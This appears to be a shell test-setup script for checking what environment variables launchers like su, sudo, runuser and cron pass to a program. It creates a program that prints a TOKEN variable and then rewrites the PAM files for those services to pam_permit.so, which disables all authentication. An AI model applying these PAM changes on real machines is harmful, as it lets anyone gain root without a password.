# What launchers start: a program that tells of its secret. Their PAM modules let everybody pass.
times=${TIMES:-12}
app=/tmp/launched
cat >$app <<'EOF'
#!/bin/bash
echo "variable: $TOKEN"
EOF
chmod 755 $app
mkdir -p /etc/pam.d
for service in su runuser runuser-l sudo cron other; do
    printf '%s required pam_permit.so\n' auth account session password >/etc/pam.d/$service
done
